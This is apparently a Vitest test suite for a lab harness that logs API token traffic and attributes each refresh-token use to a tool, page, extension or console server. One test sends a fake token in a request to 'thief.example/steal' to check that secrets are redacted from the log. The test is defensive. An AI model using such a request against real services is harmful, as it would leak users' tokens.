// @vitest-environment node
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startLab, type Lab } from './index';
import { call, pairIn, refresh, switchTo } from './prowler/testing-api';
import { openBrowser } from './prowler/testing-browser';
import { claimsOf } from './prowler/tokens';
import { send } from './testing-client';

let lab: Lab;
beforeEach(async () => {
  lab = await startLab();
});
afterEach(() => lab.close());

const ana = () => lab.prowler.people.ana;

it('knows tokens by their ids, in headers, bodies and answers', async () => {
  const first = lab.prowler.issuePair(ana());

  const next = pairIn(await switchTo(lab, lab.prowler.tenants.contoso.id, first.access));
  await refresh(lab, next.refresh);

  const [switched, refreshed] = lab.ledger.entries;
  expect(switched).toMatchObject({
    host: 'api.prowler.com',
    method: 'POST',
    path: '/api/v1/tokens/switch',
    scheme: 'Bearer',
    status: 200,
    presented: { access: [claimsOf(first.access).jti], refresh: [] },
    issued: { access: [claimsOf(next.access).jti], refresh: [claimsOf(next.refresh).jti] },
  });
  expect(refreshed?.presented.refresh).toEqual([claimsOf(next.refresh).jti]);
});

it('tells what a console disclosed from what an API issued', async () => {
  const browser = openBrowser(lab);
  await browser.signIn(ana());

  const session = await browser.session();

  const entry = lab.ledger.of({ path: '/api/auth/session' })[0];
  expect(entry?.issued.refresh).toEqual([]);
  expect(entry?.disclosed.refresh).toEqual([claimsOf(session?.refreshToken ?? '').jti]);
});

it('holds no token, no cookie, no password and no query value', async () => {
  const browser = openBrowser(lab);
  await browser.signIn(ana());
  await browser.session();
  await send(lab.port, 'https://thief.example/steal?token=canary-query', { method: 'POST', body: 'canary-body' });

  const everything = JSON.stringify(lab.ledger.entries);

  for (const secret of [...lab.prowler.issuedTokens(), 'canary-', ...browser.cookies.values()]) {
    expect(everything).not.toContain(secret);
  }
  expect(lab.ledger.of({ host: 'thief.example' })[0]?.queryNames).toEqual(['token']);
});

it('says who tried to spend which refresh token', async () => {
  const browser = openBrowser(lab);
  await browser.signIn(ana());
  const token = (await browser.session())?.refreshToken ?? '';
  await refresh(lab, token);
  lab.settings.clockOffsetMs += lab.settings.accessLifeMs + 1000;
  await browser.session();

  const presented = lab.ledger.refreshTokensPresented();

  expect(presented).toEqual(new Map([[claimsOf(token).jti, new Set(['other', 'console-server'])]]));
});

it('does not count a pair handed to the console as spent', async () => {
  const browser = openBrowser(lab);
  await browser.signIn(ana());
  const { access: accessToken, refresh: refreshToken } = lab.prowler.issuePair(ana());

  await browser.postJson('/api/auth/session', {
    csrfToken: await browser.csrf(),
    data: { accessToken, refreshToken },
  });

  expect(lab.ledger.entries.at(-1)?.path).toBe('/api/v1/users/me');
  expect(lab.ledger.refreshTokensPresented()).toEqual(new Map());
});

it('begins anew when cleared', async () => {
  await call(lab, '/users/me');

  lab.ledger.clear();

  expect(lab.ledger.entries).toEqual([]);
});

describe('the holder', () => {
  const mozilla = { 'User-Agent': 'Mozilla/5.0' };
  const fetched = { 'Sec-Fetch-Dest': 'empty', 'Sec-Fetch-Mode': 'cors' };

  it.each([
    ['other', 'a tool', {}],
    ['page', 'a navigation', { ...mozilla, 'Sec-Fetch-Site': 'none', 'Sec-Fetch-Dest': 'document' }],
    ['page', 'a page’s own fetch', { ...mozilla, ...fetched, Referer: 'https://cloud.prowler.com/' }],
    [
      'page',
      'another page’s fetch',
      { ...mozilla, ...fetched, 'Sec-Fetch-Site': 'same-site', Origin: 'https://cloud.prowler.com' },
    ],
    ['extension', 'a Chromium extension’s POST', { ...mozilla, Origin: 'chrome-extension://abc' }],
    ['extension', 'a Firefox extension’s POST', { ...mozilla, Origin: 'moz-extension://abc' }],
    ['extension', 'a Chromium extension’s GET', { ...mozilla, ...fetched, 'Sec-Fetch-Site': 'none' }],
    ['extension', 'a Firefox extension’s GET', { ...mozilla, ...fetched, 'Sec-Fetch-Site': 'same-origin' }],
  ])('is %s for %s', async (holder, _, headers) => {
    await call(lab, '/users/me', { headers });

    expect(lab.ledger.entries.at(-1)?.holder).toBe(holder);
  });

  it('is the console’s server for what that asks itself', async () => {
    await openBrowser(lab).signIn(ana());

    const asked = lab.ledger.of({ host: 'api.prowler.com' });

    expect(asked.map(({ holder, path }) => `${holder} ${path}`)).toEqual([
      'console-server /api/v1/tokens',
      'console-server /api/v1/users/me',
    ]);
  });
});
